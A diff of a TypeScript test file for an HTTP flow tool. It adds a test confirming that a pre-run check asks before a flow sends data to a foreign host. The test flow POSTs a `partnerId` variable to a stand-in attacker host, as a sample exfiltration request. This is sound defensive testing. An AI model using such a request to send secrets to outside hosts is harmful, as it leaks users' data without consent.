@@ -14,7 +14,7 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { runCli } from '../../../src/cli/cli';
-import { parseFlow, runFlow, type FlowEnvironment } from '../../../src/core/flows';
+import { checkFlowForRun, parseFlow, runFlow, type FlowEnvironment } from '../../../src/core/flows';
 import { FlowFileAccessError, projectAccess, projectOf, readInScope, readScopeOf } from '../../../src/core/flows/projectFiles';
 import { generateKeyMaterial, importPrivateKeyPem } from '../../../src/core/jwt/keys';
 import { TokenMinter } from '../../../src/core/jwt/mint';
@@ -201,6 +201,20 @@ describe('flows: what a flow may read and where it may send', function () {
       const yes = await runFlow(parseFlow(text, 'ask.http'), { environment, readFile: () => Promise.reject(new Error('none')), hosts: { confirm: async () => true } });
       assert.equal(yes[0]?.outcome, 'passed', yes[0]?.message);
       assert.equal(received.length, before + 1);
+    });
+
+    it("the check before a run asks the host policy's question (the editor's dialog), only of a flow nothing else refuses", async () => {
+      const text = (extra: string) => `GET http://${attackerHost}/first\n\n###\nPOST http://${attackerHost}/d\n\n{"p":"{{partnerId}}"${extra}}\n`;
+      const asked: string[] = [];
+      const hosts = (answer: boolean) => ({ environment, variables: {}, policy: { confirm: async (host: string) => (asked.push(host), answer) } });
+      const names = new Set(['baseUrl', 'partnerId']);
+      assert.deepEqual(await checkFlowForRun(parseFlow(text(''), 'ask.http'), { names, hosts: hosts(true) }), [], 'a yes lets it run');
+      const no = await checkFlowForRun(parseFlow(text(''), 'ask.http'), { names, hosts: hosts(false) });
+      assert.deepEqual(no.map((p) => `${p.line}:${p.column} ${p.code}`), ['4:6 flow-foreign-host']);
+      assert.deepEqual(asked, [attackerHost, attackerHost]);
+      const other = await checkFlowForRun(parseFlow(text(',"x":"{{nope}}"'), 'ask.http'), { names, hosts: hosts(true) });
+      assert.deepEqual(other.map((p) => p.code), ['flow-foreign-host', 'flow-unknown-variable'], 'refused anyway: the host is not asked about');
+      assert.equal(asked.length, 2);
     });
 
     it('a # @prompt answer is a value of your side, even where a file variable has its name, in its request and later ones', async () => {
